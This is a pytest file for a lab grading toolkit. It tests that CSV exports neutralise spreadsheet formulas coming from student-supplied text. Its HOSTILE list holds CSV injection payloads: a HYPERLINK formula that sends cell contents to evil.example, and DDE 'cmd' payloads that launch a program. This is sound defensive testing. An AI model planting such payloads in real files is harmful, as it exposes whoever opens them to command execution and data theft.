"""What the lab hands to a spreadsheet is data (labkit.spreadsheet): every CSV the lab writes
from text it did not write itself, read back as a spreadsheet reads it, holds no formula, and
every reader of those files gets the text as it was given.

A spreadsheet's rule, written here from OWASP's "CSV Injection" page and ASVS 1.2.10, not from
the lab's code: a cell runs if its first character is `=`, `+`, `-`, `@`, a tab, a carriage
return or a NUL; and, as the lab chooses to be safe, if one of the first four (or its full-width
form) follows leading whitespace.  A cell that reads as a number is a number; one that begins
with a single quote is text."""

import csv
import re

import pandas as pd
import pytest

from labkit import spreadsheet
from labkit.instructor.grading import hand
from labkit.instructor.course import class_grades
from labkit.instructor.grading.grader import Outcome, Task
from labkit.instructor.lms import books, collect
from labkit.instructor.lms.roster import Roster, Student
from labkit.publish import export

NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")


def a_spreadsheet_runs(cell: str) -> bool:
    if not cell or cell.startswith("'") or NUMBER.fullmatch(cell):
        return False
    if cell[0] in "=+-@\t\r\0":
        return True
    stripped = cell.lstrip(" \t\r\n\u00a0\u3000")
    return bool(stripped) and stripped[0] in "=+-@＝＋－＠"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1&B1,"click for your grade")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",          # a student's own quote: neutral keeps it, plain gives it back
    "''=1+1",
    "-",
    "=",
]
HARMLESS = ["-3", "+1.5e3", " 42 ", "plain words about the accept queue", "a = b + c", "", "'quoted'",
            "O'Neil", "email me @ home"]


@pytest.mark.parametrize("cell", HOSTILE + HARMLESS, ids=repr)
def test_a_cell_is_neutral_to_a_spreadsheet_and_plain_gives_back_the_text(cell):
    written = spreadsheet.neutral(cell)
    assert not a_spreadsheet_runs(written)
    assert spreadsheet.plain(written) == cell
    if cell in HARMLESS:
        assert written == cell, "a cell no spreadsheet runs is written as it is"


def test_the_rule_agrees_with_the_spreadsheets():
    for cell in HOSTILE + HARMLESS:
        assert spreadsheet.runs_as_formula(cell) == a_spreadsheet_runs(cell), repr(cell)


def cells_of(path) -> list[str]:
    """Every cell of a CSV file, as a spreadsheet's CSV import splits it."""
    with open(path, newline="", encoding="utf-8") as source:
        return [cell for row in csv.reader(source) for cell in row]


def nothing_runs(path) -> None:
    running = [cell for cell in cells_of(path) if a_spreadsheet_runs(cell)]
    assert running == [], f"{path.name}: a spreadsheet runs {running}"


def answer_row(answer: str, student="ana") -> dict:
    return {"student": student, "notebook": "01_proc_service", "check": "answer_q1", "points": 0.0,
            "max_points": 2.0, "status": hand.BY_HAND, "hidden": False, "message": f"answer: {answer}",
            "answer": answer, "look_for": ["queue"]}


@pytest.mark.parametrize("cell", HOSTILE, ids=repr)
def test_answers_csv_has_no_formula(tmp_path, cell):
    """Answers csv holds no formula and a mark given on it applies to the answer."""
    hand.settle(tmp_path, [answer_row(cell)], {})
    nothing_runs(tmp_path / hand.ANSWERS)
    # the instructor fills in the points in the file as written, and hands it back
    with open(tmp_path / hand.ANSWERS, newline="", encoding="utf-8") as source:
        rows = list(csv.reader(source))
    rows[1][rows[0].index("points")] = "2"
    with open(tmp_path / "marked.csv", "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    marks = hand.read(tmp_path / "marked.csv")
    assert marks[("ana", "01_proc_service", "answer_q1")].answer == cell
    row = answer_row(cell)
    hand.settle(tmp_path, [row], marks)
    assert (row["status"], row["points"]) == (hand.MARKED, 2.0)
    nothing_runs(tmp_path / hand.ANSWERS)


@pytest.mark.parametrize("cell", HOSTILE, ids=repr)
def test_the_gradebook_holds_no_formula_and_reads_back_as_graded(tmp_path, cell):
    task = Task(cell, "01_proc_service", None)  # a student's name as their folder has it
    rows = [dict(answer_row(cell, student=cell), message=f"the server said {cell}")]
    rows[0].pop("answer"), rows[0].pop("look_for")
    class_grades._write_gradebook(tmp_path, [task], [Outcome(task, rows, None, "ran")])
    nothing_runs(tmp_path / "gradebook.csv")
    book = class_grades.read_gradebook(tmp_path)
    assert book["student"].tolist() == [cell] and book["message"].tolist() == [f"the server said {cell}"]


@pytest.mark.parametrize("cell", HOSTILE, ids=repr)
def test_csv_file_names_have_no_formula(tmp_path, cell):
    """Collected and submitted csv hold no formula in the file name a student gave."""
    folder = tmp_path / "class" / "ana"
    collect._write_record(folder, {"01_proc_service.ipynb": {
        "file": "01_proc_service.ipynb", "lms": "canvas", "handed_in_as": cell,
        "submitted_at": "2026-11-20T10:00:00+00:00", "attempt": "1", "late_by_lms": "false"}})
    nothing_runs(folder / collect.RECORD)
    assert collect.read_record(folder)["01_proc_service.ipynb"]["handed_in_as"] == cell
    class_grades._write_submitted(tmp_path, tmp_path / "class", [Task("ana", "01_proc_service", folder / "01.ipynb")])
    nothing_runs(tmp_path / books.SUBMITTED)
    assert books.read_submitted(tmp_path)[("ana", "01_proc_service")]["handed_in_as"] == cell


@pytest.mark.parametrize("fmt", books.FORMATS)
def test_every_lms_gradebook_holds_no_formula_from_a_name_on_the_roster(tmp_path, fmt):
    roster = Roster([Student(f"s{i}", first_name=cell, last_name=cell, email=f"s{i}@uni.example",
                             canvas_user_id=str(100 + i), sis_user_id=f"sis{i}", sis_login_id=cell)
                     for i, cell in enumerate(HOSTILE)])
    frame = pd.DataFrame([{"student": f"s{i}", "notebook": "01_proc_service", "check": "c", "points": 1.0,
                           "max_points": 2.0, "status": "passed", "hidden": False, "message": cell}
                          for i, cell in enumerate(HOSTILE)])
    path, _ = books.export(frame, tmp_path, fmt, roster)
    nothing_runs(path)
    written = " ".join(cells_of(path))
    assert any(spreadsheet.neutral(cell) in written for cell in HOSTILE if cell != spreadsheet.neutral(cell))


def test_an_exported_figure_table_holds_no_formula(tmp_path):
    frame = pd.DataFrame({"model": HOSTILE, "error": list(reversed(HOSTILE)), "p99_us": range(len(HOSTILE))})
    written = export.write_table(export.Table("07_your_server", "mine", "a caption", frame), tmp_path)
    nothing_runs(written[0])
    back = spreadsheet.frame_from_csv(pd.read_csv(written[0], keep_default_na=False))
    assert back["model"].tolist() == HOSTILE and back["p99_us"].tolist() == list(range(len(HOSTILE)))
